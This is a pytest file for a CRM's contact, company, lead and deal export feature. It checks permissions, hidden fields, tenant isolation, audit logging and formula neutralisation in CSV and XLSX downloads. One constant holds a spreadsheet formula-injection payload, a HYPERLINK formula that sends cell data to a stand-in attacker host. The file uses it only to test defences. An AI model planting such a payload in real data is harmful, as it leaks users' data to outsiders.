"""Downloading the contact, company, lead and deal lists from their pages."""

import csv
import io

import pytest
from openpyxl import load_workbook

from custos.accounts.models import Role
from custos.audit.models import AuditEntry
from custos.core.tenancy import tenant_scope
from custos.crm.services.deals import deal_create
from custos.crm.services.leads import lead_create
from custos.crm.services.people import company_create, contact_create
from custos.testing import enable_two_factor, web_client
from custos.web.tests.sales import in_org_a

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def records(cast):
    company = in_org_a(cast, company_create, data={"name": "Lovelace Engines GmbH"})
    in_org_a(cast, contact_create, data={"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"})
    in_org_a(cast, contact_create, data={"first_name": HOSTILE, "last_name": "Byron", "health_notes": "Asthma"})
    in_org_a(cast, lead_create, data={"first_name": "Ed", "last_name": "New", "status": "new"})
    in_org_a(cast, lead_create, data={"first_name": "Quinn", "last_name": "Qualified", "status": "qualified"})
    in_org_a(cast, deal_create, data={"name": "Engines", "company": str(company.pk), "amount": "1250.50"})
    return company


def _csv(response):
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _exports(cast):
    with tenant_scope(cast.org_a):
        return list(
            AuditEntry.objects.filter(action__endswith=".export").order_by("seq").values_list("action", "extra")
        )


def test_the_list_pages_offer_both_formats_to_those_who_may_export(cast, records):
    client = web_client(cast.alice)
    for path, action in (
        ("/contacts/", "/contacts/export/"),
        ("/companies/", "/companies/export/"),
        ("/leads/", "/leads/export/"),
        ("/deals/list/", "/deals/export/"),
    ):
        page = client.get(path).content.decode()
        assert f'action="{action}"' in page, path
        assert 'name="format" value="csv"' in page and 'name="format" value="xlsx"' in page, path
    enable_two_factor(cast.bob)
    assert "/contacts/export/" not in web_client(cast.bob).get("/contacts/").content.decode()


def test_contacts_download_as_csv_with_formulas_neutralised_and_the_search_applied(cast, records):
    client = web_client(cast.alice)
    rows = _csv(client.post("/contacts/export/", {"format": "csv"}))
    assert rows[0][:7] == [
        "First name",
        "Last name",
        "Email",
        "Phone",
        "More email addresses",
        "More phone numbers",
        "Company",
    ]
    assert sorted(row[0] for row in rows[1:]) == ["'" + HOSTILE, "Ada"]
    assert "Asthma" not in str(rows)
    searched = _csv(client.post("/contacts/export/", {"format": "csv", "q": "Lovelace"}))
    assert [row[:2] for row in searched[1:]] == [["Ada", "Lovelace"]]
    assert _exports(cast) == [
        ("contact.export", {"format": "csv", "count": 2}),
        ("contact.export", {"format": "csv", "count": 1}),
    ]


def test_the_search_results_page_carries_its_words_into_the_export_form(cast, records):
    page = web_client(cast.alice).post("/contacts/", {"q": "Lovelace"}, headers={"HX-Request": "true"}).content.decode()
    assert 'action="/contacts/export/"' in page and 'name="q" value="Lovelace"' in page


def test_contacts_download_as_xlsx_with_text_never_formulas(cast, records):
    response = web_client(cast.alice).post("/contacts/export/", {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == HOSTILE]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_hidden_fields_are_left_out_of_the_download(cast, records):
    with tenant_scope(cast.org_a):
        Role.objects.filter(key="admin").update(hidden_fields=["contact.email"])
    rows = _csv(web_client(cast.alice).post("/contacts/export/", {"format": "csv"}))
    assert "Email" not in rows[0]
    assert "ada@example.org" not in str(rows)


def test_without_the_export_right_nothing_is_downloaded_or_logged(cast, records):
    enable_two_factor(cast.bob)
    bob = web_client(cast.bob)
    for path in ("/contacts/export/", "/companies/export/", "/leads/export/", "/deals/export/"):
        response = bob.post(path, {"format": "csv"})
        assert response.status_code == 403, path
    assert web_client(cast.sam).post("/contacts/export/", {"format": "csv"}).status_code == 403
    assert _exports(cast) == []


def test_an_unknown_format_is_refused(cast, records):
    response = web_client(cast.alice).post("/contacts/export/", {"format": "pdf"})
    assert response.status_code == 422
    assert web_client(cast.alice).get("/contacts/export/").status_code == 405


def test_companies_leads_and_deals_download_with_their_filters(cast, records):
    client = web_client(cast.alice)
    companies = _csv(client.post("/companies/export/", {"format": "csv"}))
    assert companies[0][0] == "Name" and companies[1][0] == "Lovelace Engines GmbH"
    leads = _csv(client.post("/leads/export/", {"format": "csv", "status": "qualified"}))
    assert [row[:2] for row in leads[1:]] == [["Quinn", "Qualified"]]
    deals = _csv(client.post("/deals/export/", {"format": "csv", "status": "open"}))
    header = deals[0]
    assert [deals[1][header.index("Name")], deals[1][header.index("Amount")]] == ["Engines", "1250.50"]
    assert _csv(client.post("/deals/export/", {"format": "csv", "status": "won"}))[1:] == []


def test_another_organisation_downloads_only_its_own_records(cast, records):
    rows = _csv(web_client(cast.mallory).post("/contacts/export/", {"format": "csv"}))
    assert rows[1:] == []
